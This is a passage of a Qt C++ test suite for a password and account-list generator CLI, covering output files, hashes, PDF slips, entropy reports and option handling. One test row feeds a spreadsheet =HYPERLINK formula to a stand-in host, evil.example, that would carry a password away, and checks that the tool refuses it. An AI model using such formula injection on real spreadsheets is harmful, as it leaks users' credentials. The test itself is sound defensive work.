    QVERIFY2(records.match(QString::fromLatin1(contentOf(path))).hasMatch(), contentOf(path).constData());
    struct stat status = {};
    QCOMPARE(::stat(nativePath(path).constData(), &status), 0);
    QCOMPARE(uint(status.st_mode & 0777), mode & 0700);
    QCOMPARE(entriesOf(folder.path()), QStringList{u"out.txt"_s});
}

void TestCli::failedWriteKeepsTheOldFile()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const QString path = folder.filePath(u"old.txt"_s);
    createFile(path, "old,file\n"_ba);
    Outcome outcome;
    {
        // Inherited by the program: its writes stop at 4096 bytes, as on a full disk.
        FileSizeLimit limit(4096);
        QVERIFY(limit.inForce());
        outcome = run(folder.path(), {u"-n"_s, u"10000"_s, u"-o"_s, u"old.txt"_s, u"--force"_s});
    }

    QCOMPARE(outcome.status, 1);
    QCOMPARE(outcome.err, "varnel-cli: old.txt: File too large\n"_ba);
    QCOMPARE(contentOf(path), "old,file\n"_ba);
    QCOMPARE(entriesOf(folder.path()), QStringList{u"old.txt"_s});
}

// Without the reader going away the run would take days; it ends at once, with nothing said.
void TestCli::closedPipeEndsTheRunQuietly()
{
    int ends[2];
    QCOMPARE(::pipe2(ends, O_CLOEXEC), 0);
    QProcess process;
    process.setChildProcessModifier([writeEnd = ends[1]] { ::dup2(writeEnd, STDOUT_FILENO); });
    process.start(cli(), {u"-n"_s, u"1000000000000"_s});
    ::close(ends[1]);
    QVERIFY(process.waitForStarted());
    char first = 0;
    QCOMPARE(::read(ends[0], &first, 1), ssize_t(1));
    ::close(ends[0]);

    QVERIFY(process.waitForFinished(60'000));
    QCOMPARE(process.exitStatus(), QProcess::NormalExit);
    QCOMPARE(process.exitCode(), 0);
    QCOMPARE(process.readAllStandardError(), QByteArray());
}

void TestCli::noSecureRandomNumbersWriteNothing_data()
{
    QTest::addColumn<QStringList>("arguments");

    QTest::newRow("records for standard output are not written") << QStringList{u"-n"_s, u"3"_s};
    QTest::newRow("an output file is not made") << QStringList{u"-n"_s, u"3"_s, u"-o"_s, u"out.txt"_s};
}

void TestCli::noSecureRandomNumbersWriteNothing()
{
    QFETCH(QStringList, arguments);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), arguments, {}, builtFile(NO_GETRANDOM_FROM_TEST));

    QCOMPARE(outcome.err, "varnel-cli: secure random numbers are not available: Function not implemented\n"_ba);
    QCOMPARE(outcome.status, 1);
    QCOMPARE(outcome.out, QByteArray());
    QCOMPARE(entriesOf(folder.path()), QStringList());
}

void TestCli::hostileNamesLeaveNoFile_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("names");
    QTest::addColumn<QByteArray>("message");

    QTest::newRow("root in a list for chpasswd is refused")
        << QStringList{u"-F"_s, u"chpasswd"_s} << "alice\nroot\n"_ba
        << "varnel-cli: names.txt: line 2: root is an account of the system itself (--allow-system-accounts lets it "
           "through)\n"_ba;
    QTest::newRow("bob twice in a list for accounts is refused, naming both lines")
        << QStringList{u"-F"_s, u"table"_s} << "bob\nalice\n\nbob\n"_ba
        << "varnel-cli: names.txt: line 4: bob is also on line 1\n"_ba;
    QTest::newRow("an escape inside a name is refused even in plain lines")
        << QStringList{} << "alice\n\x1b[2Jbob\n"_ba
        << "varnel-cli: names.txt: line 2: a username holding the control character 0x1B is refused\n"_ba;
    QTest::newRow("a Latin-1 list is refused for slips")
        << QStringList{u"--slips"_s, u"slips.pdf"_s} << "Zo\xeb \xc5ngstr\xf6m\n"_ba
        << "varnel-cli: names.txt: line 1: a username that is not valid UTF-8 text is refused (save the list as "
           "UTF-8)\n"_ba;
    QTest::newRow("a hyperlink that would carry a password away is refused for the plain table")
        << QStringList{u"--plain"_s, u"plain.csv"_s}
        << "alice\n=HYPERLINK(\"http://evil.example/?pw=\"&B3,\"Verify your account\")\n"_ba
        << "varnel-cli: names.txt: line 2: a username starting with '=' is refused: spreadsheets run it as a "
           "formula\n"_ba;
}

void TestCli::hostileNamesLeaveNoFile()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, names);
    QFETCH(QByteArray, message);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    createFile(folder.filePath(u"names.txt"_s), names);
    const Outcome outcome = run(folder.path(), QStringList{u"-f"_s, u"names.txt"_s, u"-o"_s, u"out.txt"_s} + arguments);

    QCOMPARE(outcome.status, 1);
    QCOMPARE(outcome.out, QByteArray());
    QCOMPARE(outcome.err, message);
    QCOMPARE(entriesOf(folder.path()), QStringList{u"names.txt"_s});
}

// Without being drawn unique, 20,000 usernames of six digits repeat about 200 of them.
void TestCli::randomUsernamesOfAccountsAreAllDifferent()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(
        folder.path(),
        {u"-u"_s, u"random"_s, u"-l"_s, u"6"_s, u"-s"_s, u"numeric"_s, u"-n"_s, u"20000"_s, u"-F"_s, u"chpasswd"_s});
    QCOMPARE(outcome.status, 0);
    QSet<QByteArray> usernames;
    for (const QList<QByteArray>& record : chpasswdRecords(outcome.out))
        usernames.insert(record[0]);
    QCOMPARE(usernames.size(), 20000);
}

void TestCli::readersGetTheNamesBack_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QString>("reader");

    QTest::newRow("Python's csv reads table records back, the header row first")
        << u"table"_s
        << u"import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO("
           "sys.stdin.buffer.read().decode(), newline='')))[1:]))"_s;
    QTest::newRow("Python's json reads JSON Lines back")
        << u"json"_s
        << u"import json,sys; print(json.dumps([[r['username'], r['password']] for r in "
           "map(json.loads, sys.stdin.buffer.read().decode().splitlines())]))"_s;
}

// Names with commas, quotes, a backslash and letters beyond ASCII, as a class list may hold.
void TestCli::readersGetTheNamesBack()
{
    QFETCH(QString, format);
    QFETCH(QString, reader);
    const QStringList names{u"Smith, John"_s, u"O\"Brien \"Jr\""_s, u"back\\slash"_s, u"Zoë Ångström"_s};

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), {u"-f"_s, u"-"_s, u"-F"_s, format}, names.join(u'\n').toUtf8());
    QCOMPARE(outcome.status, 0);
    if (format == u"table"_s)
        QVERIFY(outcome.out.startsWith("username,password\r\n"));

    const QJsonArray records = QJsonDocument::fromJson(outputOf(u"python3"_s, {u"-c"_s, reader}, outcome.out)).array();
    QCOMPARE(records.size(), names.size());
    const QRegularExpression password(QRegularExpression::anchoredPattern(u"[A-Za-z0-9]{16}"_s));
    for (qsizetype i = 0; i < names.size(); ++i) {
        QCOMPARE(records[i].toArray()[0].toString(), names[i]);
        QVERIFY(password.match(records[i].toArray()[1].toString()).hasMatch());
    }
}

void TestCli::hashesAreThoseOfThePlainPasswords_data()
{
    QTest::addColumn<QString>("method");
    QTest::addColumn<QByteArray>("prefix");
    QTest::addColumn<QString>("plainOption");

    QTest::newRow("sha512crypt hashes, their passwords in a plain table")
        << u"sha512crypt"_s << "$6$"_ba << u"--plain"_s;
    QTest::newRow("yescrypt hashes, their passwords on slips, each account once and in order")
        << u"yescrypt"_s << "$y$"_ba << u"--slips"_s;
}

// A class's chpasswd file and what its people get: the same accounts, in order, each password the one hashed.
void TestCli::hashesAreThoseOfThePlainPasswords()
{
    QFETCH(QString, method);
    QFETCH(QByteArray, prefix);
    QFETCH(QString, plainOption);
    const bool slips = plainOption == u"--slips"_s;
    const int count = slips ? 23 : 4;

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    QStringList arguments{u"-n"_s,       QString::number(count),
                          u"-u"_s,       u"numbered"_s,
                          u"--prefix"_s, u"s"_s,
                          u"--digits"_s, u"2"_s,
                          u"-F"_s,       u"chpasswd"_s,
                          u"--hash"_s,   method,
                          u"-o"_s,       u"accounts"_s,
                          plainOption,   u"plain"_s};
    if (slips)
        arguments << u"--title"_s << u"Class 7B"_s;
    const Outcome outcome = run(folder.path(), arguments);
    QCOMPARE(outcome.status, 0);
    QCOMPARE(outcome.err, QByteArray());
    struct stat status = {};
    QCOMPARE(::stat(nativePath(folder.filePath(u"plain"_s)).constData(), &status), 0);
    QCOMPARE(uint(status.st_mode & 0777), 0600u);

    QByteArrayList usernames;
    QByteArrayList passwords;
    if (slips) {
        // In the order drawn: each slip's title, then each label followed by its text.
        const QByteArray text = outputOf(u"pdftotext"_s, {u"-raw"_s, folder.filePath(u"plain"_s), u"-"_s});
        QCOMPARE(text.count('\f'), 3);
        QCOMPARE(text.count("Class 7B"), count);
        const QByteArrayList lines = text.split('\n');
        for (qsizetype i = 0; i + 1 < lines.size(); ++i) {
            if (lines[i] == "Username")
                usernames.append(lines[i + 1]);
            else if (lines[i] == "Password")
                passwords.append(lines[i + 1]);
        }
    } else {
        QByteArrayList table = contentOf(folder.filePath(u"plain"_s)).split('\n');
        QCOMPARE(table.takeFirst(), "username,password\r"_ba);
        for (const QByteArray& record : std::as_const(table).first(count)) {
            usernames.append(record.chopped(1).split(',').at(0));
            passwords.append(record.chopped(1).split(',').at(1));
        }
    }
    const QList<QByteArrayList> accounts = chpasswdRecords(contentOf(folder.filePath(u"accounts"_s)));
    QCOMPARE(accounts.size(), count);
    QCOMPARE(usernames.size(), count);
    QCOMPARE(passwords.size(), count);
    for (int i = 0; i < count; ++i) {
        QCOMPARE(usernames[i], QByteArray("s%1").replace("%1", QByteArray::number(i + 1).rightJustified(2, '0')));
        QCOMPARE(accounts[i][0], usernames[i]);
        QVERIFY(accounts[i][1].startsWith(prefix));
        QVERIFY2(hashMatches(passwords[i], accounts[i][1]), passwords[i].constData());
    }
}

void TestCli::entropyComesFirstOnStandardError_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("entropy");

    QTest::newRow("the defaults give about 95 bits") << QStringList{} << "entropy: 95.3 bits per password\n"_ba;
    QTest::newRow("exclusions count, and those the characters never held are named")
        << QStringList{u"-s"_s, u"numeric"_s, u"--exclude"_s, u"9~"_s}
        << "entropy: 50.7 bits per password\nentropy: --exclude: '~' not among the characters\n"_ba;
    QTest::newRow("a table's 16 digits never starting with 0 give 53.0 bits, then the spreadsheets' warning")
        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"16"_s}
        << "entropy: 53.0 bits per password\nvarnel-cli: warning: spreadsheets show all-digit passwords of 16 or "
           "more digits as numbers, the digits after the 15th lost; open the password column as text\n"_ba;
}

void TestCli::entropyComesFirstOnStandardError()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, entropy);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), QStringList{u"--entropy"_s, u"-n"_s, u"2"_s} + arguments);

    QCOMPARE(outcome.status, 0);
    QCOMPARE(outcome.err, entropy);
    QCOMPARE(outcome.out.count('\n'), arguments.contains(u"table"_s) ? 3 : 2);
}

void TestCli::slipsHoldEveryTextWhole_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("names");
    QTest::addColumn<QString>("title");

    QTest::newRow("a 128-character password goes smaller over lines of whole characters, on letter's short slips too")
        << QStringList{u"-n"_s, u"3"_s,  u"-u"_s,  u"numbered"_s, u"--prefix"_s,
                       u"s"_s,  u"-l"_s, u"128"_s, u"--paper"_s,  u"letter"_s}
        << QByteArray() << u"Class 7B, school network"_s;
    QTest::newRow("a 64-character username goes smaller and stays on its own slip")
        << QStringList{u"-f"_s, u"-"_s}
        << "anna.berg.from.the.class.of.twenty-twenty-two.at.hillside.school\n"
           "noah.smith.of.the.class.of.twenty-twenty-two.at.hillside.school1\n"
           "zoe.angstrom.of.the.class.of.twenty-twenty-two.at.hillside.sch.u\n"_ba
        << QString();
    QTest::newRow("a title too long for a line at its size goes smaller and stays whole on every slip")
        << QStringList{u"-n"_s, u"3"_s, u"-u"_s, u"numbered"_s} << QByteArray()
        << u"Hillside Primary School, Class 7B, sign in to the school network today"_s;
}

// Nothing of a slip is cut off or strays onto its neighbour: each slip holds its own texts whole, in order.
void TestCli::slipsHoldEveryTextWhole()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, names);
    QFETCH(QString, title);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    arguments << u"-F"_s << u"table"_s << u"-o"_s << u"records"_s << u"--slips"_s << u"slips.pdf"_s;
    if (!title.isEmpty())
        arguments << u"--title"_s << title;
    const Outcome outcome = run(folder.path(), arguments, names);
    QCOMPARE(outcome.err, QByteArray());
    QCOMPARE(outcome.status, 0);

    QByteArrayList records = contentOf(folder.filePath(u"records"_s)).split('\n');
    records.removeFirst();
    records.removeLast();
    QCOMPARE(records.size(), 3);
    const QByteArrayList slips = slipTexts(folder.filePath(u"slips.pdf"_s));
    QCOMPARE(slips.size(), records.size());
    for (qsizetype i = 0; i < records.size(); ++i) {
        const QByteArrayList pair = records[i].chopped(1).split(',');
        QCOMPARE(slips[i], title.toUtf8().replace(' ', "") + "Username" + pair[0] + "Password" + pair[1]);
    }
}

void TestCli::slipsPaperFollowsTheLocale_data()
{
    QTest::addColumn<QByteArray>("locale");
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("size");

    QTest::newRow("a territory that prints on letter gets letter")
        << "en_US.UTF-8"_ba << QStringList{} << "612 x 792 pts (letter)"_ba;
    QTest::newRow("other territories get A4") << "de_DE.UTF-8"_ba << QStringList{} << "595 x 842 pts (A4)"_ba;
    QTest::newRow("the paper option outranks the locale")
        << "en_US.UTF-8"_ba << QStringList{u"--paper"_s, u"a4"_s} << "595 x 842 pts (A4)"_ba;
}

void TestCli::slipsPaperFollowsTheLocale()
{
    QFETCH(QByteArray, locale);
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, size);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    QProcess process;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.remove(u"LC_ALL"_s);
    environment.remove(u"LC_PAPER"_s);
    environment.insert(u"LANG"_s, QString::fromLatin1(locale));
    process.setProcessEnvironment(environment);
    process.setWorkingDirectory(folder.path());
    process.start(cli(), QStringList{u"--slips"_s, u"slips.pdf"_s} + arguments);
    QVERIFY(process.waitForFinished(60'000));
    QCOMPARE(process.exitCode(), 0);

    const QByteArray info = outputOf(u"pdfinfo"_s, {folder.filePath(u"slips.pdf"_s)});
    QVERIFY2(info.contains("Page size:       " + size), info.constData());
}

void TestCli::helpListsEveryOptionWithItsDefault()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), {u"--help"_s});

    QCOMPARE(outcome.status, 0);
    QCOMPARE(outcome.err, QByteArray());
    for (const char* text : {"-n, --count <N>",
                             "(default: 1)",
                             "-l, --length <N>",
                             "(default: 16)",
                             "-s, --style <STYLE>",
                             "(default: alphanumeric)",
                             "-c, --case <CASE>",
                             "(default: mixed)",
                             "-u, --usernames <KIND>",
                             "(default: none)",
                             "--prefix <TEXT>",
                             "--digits <N>",
                             "--start <N>",
                             "-f, --names <FILE>",
                             "-F, --format <FORMAT>",
                             "table",
                             "chpasswd",
                             "json",
                             "(default: lines)",
                             "-o, --output <FILE>",
                             "--force",
                             "--allow-system-accounts",
                             "--hash <METHOD>",
                             "--plain <FILE>",
                             "--slips <FILE>",
                             "--title <TEXT>",
                             "--paper <PAPER>",
                             "--exclude <CHARS>",
                             "--exclude-similar",
                             "--every-class",
                             "--entropy",
                             "-h, --help",
                             "-V, --version"})
        QVERIFY2(outcome.out.contains(text), text);
}

void TestCli::passphrasesAreWordsOfTheirList_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<PassphraseRecipe>("recipe");

    const WordList fromFile(thousandWords().split('\n'));
    PassphraseRecipe large;
    QTest::newRow("six words of the large list joined by - by default") << QStringList{u"-s"_s, u"words"_s} << large;
    PassphraseRecipe shortList{4, *WordList::builtIn(u"short"), " ", false, false};
    QTest::newRow("four words of the short list between blanks")
        << QStringList{u"-s"_s, u"words"_s, u"--wordlist"_s, u"short"_s, u"-l"_s, u"4"_s, u"--separator"_s, u" "_s}
        << shortList;
    PassphraseRecipe file{3, fromFile, ".", true, true};
    QTest::newRow("three words of a list file, capitalized, with a digit after one of them")
        << QStringList{u"--style=words"_s, u"--wordlist=words.txt"_s, u"--length=3"_s,
                       u"--separator=."_s, u"--capitalize"_s,         u"--number"_s}
        << file;
}

// Each passphrase is of the list's words, as many as asked; --entropy gives the maker's own figure.
void TestCli::passphrasesAreWordsOfTheirList()
{
    QFETCH(QStringList, arguments);
    QFETCH(PassphraseRecipe, recipe);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    createFile(folder.filePath(u"words.txt"_s), thousandWords());
    const Outcome outcome = run(folder.path(), arguments + QStringList{u"-n"_s, u"300"_s, u"--entropy"_s});
    QCOMPARE(outcome.status, 0);
    QString error;
    const auto maker = PassphraseMaker::create(recipe, SystemRandomSource::instance(), error);
    QVERIFY2(maker, qPrintable(error));
    QCOMPARE(outcome.err, entropyLine(maker->entropyBits()));

    const QSet<QByteArray> words(recipe.words.words().cbegin(), recipe.words.words().cend());
    const QByteArrayList passphrases = outcome.out.split('\n').first(300);
    for (const QByteArray& passphrase : passphrases) {
        const QStringList drawn = QString::fromUtf8(passphrase).split(QString::fromUtf8(recipe.separator));
        QCOMPARE(drawn.size(), recipe.wordCount);
        int digits = 0;
        for (QString word : drawn) {
            if (recipe.number && word.back().isDigit()) {
                word.chop(1);
                ++digits;
            }
            if (recipe.capitalize) {
                QVERIFY2(word.front().isUpper(), passphrase.constData());
                word[0] = word.front().toLower();
            }
            QVERIFY2(words.contains(word.toUtf8()), passphrase.constData());
        }
        QCOMPARE(digits, recipe.number ? 1 : 0);
    }
}

void TestCli::rulesPasswordsMeetTheirRules_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<RulesRecipe>("recipe");
    QTest::addColumn<QString>("pattern");

    const auto recipe = [](const QString& text, std::optional<qint32> length, const QByteArray& exclude) {
        QString error;
        return RulesRecipe{*PasswordRules::parse(text, error), length, exclude};
    };
    const QString example = u"minlength: 8; maxlength: 32; required: lower, upper; required: digit; "
                            "allowed: [-_./\\@$*&!#]; max-consecutive: 2"_s;
    QTest::newRow("the example rules give 16 characters, a letter and a digit, no other, none thrice in a row")
        << QStringList{u"--rules"_s, example} << recipe(example, std::nullopt, {})
        << u"(?!.*(.)\\1\\1)(?=.*[A-Za-z])(?=.*[0-9])[A-Za-z0-9\\-_./\\\\@$*&!#]{16}"_s;
    const QString shortRange = u"maxlength: 10; required: upper; required: [!?]; allowed: lower"_s;
    QTest::newRow("a range below 16 gives its longest, and the look-alikes are left out after the rules")
        << QStringList{u"--rules"_s, shortRange, u"--exclude-similar"_s} << recipe(shortRange, std::nullopt, "0O1lI")
        << u"(?=.*[A-Z])(?=.*[!?])[a-km-zA-HJ-NP-Z!?]{10}"_s;
    const QString range = u"minlength: 6; maxlength: 12; required: digit; required: upper; allowed: lower"_s;
    QTest::newRow("-l chooses within the range, and --exclude takes characters out of the allowed ones")
        << QStringList{u"--rules"_s, range, u"-l"_s, u"12"_s, u"--exclude"_s, u"abcdefghijklm"_s}
        << recipe(range, 12, "abcdefghijklm") << u"(?=.*[0-9])(?=.*[A-Z])[n-zA-Z0-9]{12}"_s;
}

// Every password meets the rules as a pattern written from them states them; --entropy gives the counted figure.
void TestCli::rulesPasswordsMeetTheirRules()
{
    QFETCH(QStringList, arguments);
    QFETCH(RulesRecipe, recipe);
    QFETCH(QString, pattern);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), arguments + QStringList{u"-n"_s, u"500"_s, u"--entropy"_s});
    QCOMPARE(outcome.status, 0);
    QString error;
    const auto maker = RulesPasswordMaker::create(recipe, SystemRandomSource::instance(), error);
    QVERIFY2(maker, qPrintable(error));
    QCOMPARE(outcome.err, entropyLine(maker->entropyBits()));
    const QRegularExpression rules(QRegularExpression::anchoredPattern(pattern));
    const QByteArrayList passwords = outcome.out.split('\n');
    QCOMPARE(passwords.size(), 501);
    for (const QByteArray& password : passwords.first(500))
        QVERIFY2(rules.match(QString::fromLatin1(password)).hasMatch(), password.constData());
}

// A PDF reader finds each passphrase whole, its lines broken only after a separator.
void TestCli::passphraseOnASlipBreaksAfterItsSeparators()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(
        folder.path(),
        {u"-s"_s, u"words"_s, u"-l"_s, u"8"_s, u"-n"_s, u"12"_s, u"-u"_s, u"numbered"_s, u"--slips"_s, u"slips.pdf"_s});
    QCOMPARE(outcome.status, 0);

    const QByteArray text = outputOf(u"pdftotext"_s, {u"-raw"_s, folder.filePath(u"slips.pdf"_s), u"-"_s});
    QByteArrayList found;
    bool inPassword = false;
    for (const QByteArray& line : text.split('\n')) {
        if (line == "Password") {
            found.append(QByteArray());
            inPassword = true;
        } else if (line.isEmpty() || line == "Username" || line.contains('\f')) {
            inPassword = false;
        } else if (inPassword) {
            QVERIFY2(found.last().isEmpty() || found.last().endsWith('-'), text.constData());
            found.last() += line;
        }
    }
    QByteArrayList records;
    for (const QByteArray& record : outcome.out.split('\n').first(12))
        records.append(record.left(record.indexOf(',')));
    QCOMPARE(found, records);
}

void TestCli::shellConventionsHold_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("err");
    QTest::addColumn<QStringList>("files");

    QTest::newRow("-o - writes the records to standard output, not to a file named -")
        << QStringList{u"-o"_s, u"-"_s, u"-n"_s, u"2"_s} << 0 << u"([A-Za-z0-9]{16}\n){2}"_s << QString()
        << QStringList{};
    QTest::newRow("--plain - writes the plain table to standard output, the records to their file")
        << QStringList{u"-n"_s, u"2"_s, u"-u"_s, u"numbered"_s, u"-o"_s, u"records.txt"_s, u"--plain"_s, u"-"_s} << 0
        << u"username,password\r\n1,[A-Za-z0-9]{16}\r\n2,[A-Za-z0-9]{16}\r\n"_s << QString()
        << QStringList{u"records.txt"_s};
    QTest::newRow("--slips - writes the PDF to standard output")
        << QStringList{u"-o"_s, u"records.txt"_s, u"--slips"_s, u"-"_s} << 0 << u"%PDF-[\\s\\S]*%%EOF\\s*"_s
        << QString() << QStringList{u"records.txt"_s};
    QTest::newRow("standard output carries the records unless -o names a file")
        << QStringList{u"--slips"_s, u"-"_s} << 2 << QString()
        << u"varnel-cli: --slips: standard output takes the records already \\(-o FILE sends them elsewhere\\) "
           "\\(see varnel-cli --help\\)\n"_s
        << QStringList{};
    QTest::newRow("standard output carries one file only")
        << QStringList{u"-o"_s, u"records.txt"_s, u"--plain"_s, u"-"_s, u"--slips"_s, u"-"_s} << 2 << QString()
        << u"varnel-cli: --slips: standard output takes the plain passwords already \\(see varnel-cli --help\\)\n"_s
        << QStringList{};
    QTest::newRow("a misspelt option names the one meant")
        << QStringList{u"--lenght"_s, u"5"_s} << 2 << QString()
        << u"varnel-cli: --lenght: unknown option \\(did you mean --length\\?\\)\n"_s << QStringList{};
    QTest::newRow("a wrong case and a letter short are still close")
        << QStringList{u"--Forma=csv"_s} << 2 << QString()
        << u"varnel-cli: --Forma: unknown option \\(did you mean --format\\?\\)\n"_s << QStringList{};
    QTest::newRow("an option near none is not guessed at")
        << QStringList{u"--frobnicate"_s} << 2 << QString()
        << u"varnel-cli: --frobnicate: unknown option \\(see varnel-cli --help\\)\n"_s << QStringList{};
    QTest::newRow("options that allow one password warn of it and make it")
        << QStringList{u"-s"_s, u"numeric"_s, u"--exclude"_s, u"012345678"_s, u"-l"_s, u"5"_s} << 0 << u"99999\n"_s
        << u"varnel-cli: warning: these options allow only 1 different password\n"_s << QStringList{};
    QTest::newRow("six digits are a million passwords, enough to say nothing")
        << QStringList{u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s} << 0 << u"[0-9]{6}\n"_s << QString() << QStringList{};
    QTest::newRow("the hash cost asked for is the one in the hash")
        << QStringList{u"-u"_s,          u"numbered"_s,    u"-F"_s,   u"chpasswd"_s, u"--hash"_s,
                       u"sha512crypt"_s, u"--hash-cost"_s, u"1000"_s, u"--plain"_s,  u"plain.csv"_s}
        << 0 << u"1:\\$6\\$rounds=1000\\$[./0-9A-Za-z]+\\$[./0-9A-Za-z]{86}\n"_s << QString()
        << QStringList{u"plain.csv"_s};
    QTest::newRow("help names the program, not its path, in lines of 80 columns at most")
        << QStringList{u"--help"_s} << 0 << u"Usage: varnel-cli \\[options\\]\n([^\n]{0,80}\n)+"_s << QString()
        << QStringList{};
}

// What a user of a shell expects of a command, as the shell shows it: the status, both streams, the files.
void TestCli::shellConventionsHold()
{
    QFETCH(QStringList, arguments);
    QFETCH(int, status);
    QFETCH(QString, out);
    QFETCH(QString, err);
    QFETCH(QStringList, files);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const Outcome outcome = run(folder.path(), arguments);

    QCOMPARE(outcome.status, status);
    const QRegularExpression expectedOut(QRegularExpression::anchoredPattern(out));
    QVERIFY2(expectedOut.match(QString::fromUtf8(outcome.out)).hasMatch(), outcome.out.left(2000).constData());
    const QRegularExpression expectedErr(QRegularExpression::anchoredPattern(err));
    QVERIFY2(expectedErr.match(QString::fromUtf8(outcome.err)).hasMatch(), outcome.err.constData());
    QCOMPARE(entriesOf(folder.path()), files);
}

// On a terminal a slow run shows how far it has come, and leaves the terminal as it found it; elsewhere
// (every other test's standard error) it says nothing.
void TestCli::progressIsShownOnATerminalAndErased()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const QStringList arguments{cli(),       u"-n"_s,       u"8"_s,        u"-u"_s,          u"numbered"_s,
                                u"-F"_s,     u"chpasswd"_s, u"--hash"_s,   u"sha512crypt"_s, u"--hash-cost"_s,
                                u"300000"_s, u"-o"_s,       u"accounts"_s, u"--plain"_s,     u"plain.csv"_s};
    QStringList quoted;
    for (const QString& argument : arguments)
        quoted.append(u'\'' + argument + u'\'');
    QProcess terminal;
    terminal.setWorkingDirectory(folder.path());
    terminal.start(u"script"_s, {u"-qec"_s, quoted.join(u' '), u"/dev/null"_s});
    QVERIFY(terminal.waitForFinished(120'000));
    QCOMPARE(terminal.exitCode(), 0);

    const QByteArray screen = terminal.readAllStandardOutput();
    const QRegularExpression line(u"\r\x1b\\[Kvarnel-cli: [1-8]/8, [0-9.]+/s, 0:[0-9]{2} left"_s);
    QVERIFY2(line.match(QString::fromLatin1(screen)).hasMatch(), screen.constData());
    QVERIFY2(screen.endsWith("\r\x1b[K"), screen.constData());
    QCOMPARE(chpasswdRecords(contentOf(folder.filePath(u"accounts"_s))).size(), 8);
}

void TestCli::versionIsTheAboutBoxVersion()
{
    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const QByteArray about(AboutVersionText);
    const QByteArray version = about.mid(about.lastIndexOf(' ') + 1);

    for (const QString& option : {u"-V"_s, u"--version"_s}) {
        const Outcome outcome = run(folder.path(), {option});
        QCOMPARE(outcome.status, 0);
        QCOMPARE(outcome.out, "varnel-cli " + version + '\n');
        QCOMPARE(outcome.err, QByteArray());
    }
}

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
